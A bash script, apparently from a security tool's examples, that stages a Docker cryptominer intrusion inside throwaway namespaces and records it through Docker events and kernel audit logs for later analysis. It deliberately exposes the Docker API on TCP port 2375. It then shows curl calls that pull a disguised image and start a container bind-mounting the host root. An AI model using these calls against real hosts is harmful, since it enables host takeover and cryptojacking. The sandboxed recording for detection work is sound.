#!/usr/bin/env bash
# Records examples/docker-cryptominer from a real Docker Engine, a real registry and the kernel's own audit trail.
#
# Run as root on Linux:  examples/record.sh [TARGET]     (TARGET: the folder to write; default: a new one, printed)
# Needs dockerd, docker, containerd, ctr, docker-registry, skopeo, auditd, ip, iptables, nsenter, curl, busybox,
# dash, python3.
#
# Nothing of the machine is touched for good: the daemons are its own copies in a mount and a network namespace without
# an uplink (fresh tmpfs on /run and /var/lib), and they vanish with it. The audit rules are loaded for the half minute
# of the recording and removed after it; where audit rules or an audit daemon exist already, the script declines.
# KEEP_STATE=1 keeps the daemons' own logs, to find out why a recording failed.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)

corp=registry.corp.example
hub=hub.example
uplink=10.20.0.1 host=10.20.0.5 registry=10.20.0.10 prices=10.20.0.40
stage=203.0.113.7 caller=203.0.113.66 pool=198.51.100.23 metadata=169.254.169.254

fail() { echo "record.sh: $*" >&2; exit 2; }
await() { for _ in $(seq 200); do "$@" >/dev/null 2>&1 && return 0; sleep 0.1; done; fail "gave up waiting for: $*"; }
stop() { for ((i = $#; i > 0; i--)); do kill "${!i}" 2>/dev/null && wait "${!i}" 2>/dev/null || true; done; }
# runc makes the parent of its containers' control groups and leaves it; one that others use cannot be removed.
forget_cgroups() { rmdir /sys/fs/cgroup/*/docker /sys/fs/cgroup/docker 2>/dev/null || true; }
is_elsewhere() { [ "$(readlink "/proc/$1/ns/net")" != "$(readlink /proc/self/ns/net)" ]; }

end_audit() {
  auditctl -D >/dev/null
  auditctl -e "$enabled" -b "$backlog" >/dev/null
  stop "$auditd"
  if [ -n "${KEEP_STATE:-}" ]; then echo "logs of the daemons: $state"; else rm -rf "$state"; fi
}

# ------------------------------------------------------------------- outside: the audit trail, and what remains of it
record() {
  [ "$(id -u)" = 0 ] || fail "run it as root: it makes namespaces and loads audit rules"
  for tool in dockerd docker containerd ctr docker-registry skopeo auditd auditctl ip iptables nsenter unshare curl busybox dash python3; do
    command -v "$tool" >/dev/null || fail "$tool is not installed"
  done
  [ "$(auditctl -s | awk '$1 == "pid" {print $2}')" = 0 ] || fail "an audit daemon runs already; only one can"
  [ "$(auditctl -l)" = "No rules" ] || fail "audit rules are loaded already; they would mix with the recording"
  local target=${1:-$(mktemp -d "${TMPDIR:-/tmp}/tidewaiter-example.XXXXXX")}
  # Not local: the traps run after the functions.
  state=$(mktemp -d "${TMPDIR:-/tmp}/tidewaiter-recording.XXXXXX")
  enabled=$(auditctl -s | awk '$1 == "enabled" {print $2}')
  backlog=$(auditctl -s | awk '$1 == "backlog_limit" {print $2}')
  mkdir -p "$target" "$state/audit"
  printf '%s\n' "log_file = $state/audit/audit.log" "log_format = ENRICHED" "flush = NONE" "max_log_file = 100" \
    "space_left = 75" "admin_space_left = 50" >"$state/audit/auditd.conf"
  auditd -n -s nochange -c "$state/audit" >"$state/auditd.out" 2>&1 &
  auditd=$!
  trap 'end_audit' EXIT
  await test -s "$state/audit/audit.log"
  auditctl -b 16384 -e 1 >/dev/null
  env -i PATH="$PATH" HOME="$state" unshare --mount --net --propagation private "$here/record.sh" --inside "$state"
  auditctl -D >/dev/null
  [ "$(auditctl -s | awk '$1 == "lost" {print $2}')" = 0 ] || echo "record.sh: the kernel lost audit records" >&2
  sleep 1
  install -m 0644 "$state"/out/* "$target"
  # What else this machine did meanwhile is nobody's business: only the daemons and what they started is kept.
  read -ra daemons <"$state/daemons"
  python3 "$here/recording/keep_tree.py" "${daemons[@]}" <"$state/audit/audit.log" >"$target/audit.log"
  echo "recorded: $target"
}

# --------------------------------------------------------------------- inside: a Docker host, an outside, and the story
inside() {
  local state=$1 out=$1/out
  cd /
  pids=()
  mkdir -p "$out" "$state/layouts" "$state/files"
  trap 'stop "${pids[@]}"; forget_cgroups' EXIT

  # The daemons' usual places, empty and private, so that no path in the recording is special.
  printf '127.0.0.1 localhost\n%s %s %s\n' "$registry" "$corp" "$hub" >"$state/hosts"
  mount --bind "$state/hosts" /etc/hosts
  mount -t tmpfs tmpfs /run
  mount -t tmpfs tmpfs /var/lib

  # The outside: another network namespace at the far end of one cable.
  ip link set lo up
  unshare --net sleep infinity & pids+=($!)
  local far_pid=$!
  local far=(nsenter "--net=/proc/$far_pid/ns/net")
  await is_elsewhere "$far_pid"
  ip link add uplink type veth peer name far
  ip link set far netns "$far_pid"
  ip addr add "$host/24" dev uplink
  ip link set uplink up
  "${far[@]}" ip link set lo up
  "${far[@]}" ip link set far up
  for address in "$uplink/24" "$registry/24" "$prices/24" "$stage/32" "$caller/32" "$pool/32" "$metadata/32"; do
    "${far[@]}" ip addr add "$address" dev far
  done
  ip route add default via "$uplink"

  python3 "$here/recording/images.py" "$state/layouts" "$state/files"
  "${far[@]}" python3 "$here/recording/outside.py" "$state/files" \
    "$stage:80" "$pool:3333" "$metadata:80" "$prices:8000" & pids+=($!)
  printf '%s\n' "version: 0.1" "log: {level: info, formatter: json}" \
    "storage: {filesystem: {rootdirectory: $state/registry}}" "http: {addr: \"$registry:80\"}" >"$state/registry.yml"
  "${far[@]}" docker-registry serve "$state/registry.yml" >"$state/registry.log" 2>&1 & pids+=($!)
  await curl -sf "http://$registry/v2/"
  skopeo copy -q --all --insecure-policy --dest-tls-verify=false "oci:$state/layouts/web:1.4" "docker://$corp/shop/web:1.4"
  skopeo copy -q --all --insecure-policy --dest-tls-verify=false "oci:$state/layouts/nginx-cache:latest" "docker://$hub/alpine0s/nginx-cache:latest"
  local pushed
  pushed=$(wc -l <"$state/registry.log")

  echo "{}" >/run/daemon.json
  printf 'version = 2\ndisabled_plugins = ["io.containerd.grpc.v1.cri"]\n' >/run/containerd.toml
  containerd --config /run/containerd.toml >"$state/containerd.out" 2>&1 & pids+=($!)
  local containerd=$! dockerd
  await ctr version
  # The open door of the story: the Engine's API on a plain TCP port.
  dockerd --containerd /run/containerd/containerd.sock -H unix:///run/docker.sock -H "tcp://$host:2375" --config-file /run/daemon.json \
    --dns 127.0.0.1 --insecure-registry "$corp" --insecure-registry "$hub" >"$state/dockerd.out" 2>&1 & pids+=($!)
  dockerd=$!
  await curl -sf --unix-socket /run/docker.sock http://docker/_ping

  curl -sN --unix-socket /run/docker.sock http://docker/events >"$out/docker-events.jsonl" & pids+=($!)
  ctr events >"$out/ctr-events.log" 2>/dev/null & pids+=($!)
  echo "$containerd $dockerd" >"$state/daemons"
  auditctl -a always,exit -F arch=b64 -S execve,execveat -k tw-exec
  auditctl -a always,exit -F arch=b64 -S connect -F saddr_fam=2 -k tw-connect
  auditctl -a always,exit -F arch=b64 -S connect -F saddr_fam=10 -k tw-connect
  sleep 1

  # 12 seconds of an ordinary day.
  docker pull -q "$corp/shop/web:1.4"
  docker run -d --name web --label team=shop "$corp/shop/web:1.4"
  sleep 12
  # Somebody outside finds the API.
  local api="http://$host:2375/v1.41" call=("${far[@]}" curl -sS -f --interface "$caller") json=(-H "Content-Type: application/json")
  "${call[@]}" -X POST "$api/images/create?fromImage=$hub/alpine0s/nginx-cache&tag=latest" >/dev/null
  "${call[@]}" -X POST "${json[@]}" -d "{\"Image\":\"$hub/alpine0s/nginx-cache:latest\",\"HostConfig\":{\"Binds\":[\"/:/host\"]}}" \
    "$api/containers/create?name=nginx-cache" >/dev/null
  "${call[@]}" -X POST "$api/containers/nginx-cache/start"
  sleep 14
  docker inspect web nginx-cache "$corp/shop/web:1.4" "$hub/alpine0s/nginx-cache:latest" >"$out/docker-inspect.json"
  docker logs nginx-cache >"$state/nginx-cache.out" 2>&1
  docker rm -f nginx-cache web >/dev/null
  sleep 1
  tail -n "+$((pushed + 1))" "$state/registry.log" | grep '^{' >"$out/registry-access.jsonl"
}

case ${1:-} in
  --inside) inside "$2" ;;
  -h | --help) sed -n '2,11s/^# \{0,1\}//p' "$0" ;;
  *) record "$@" ;;
esac
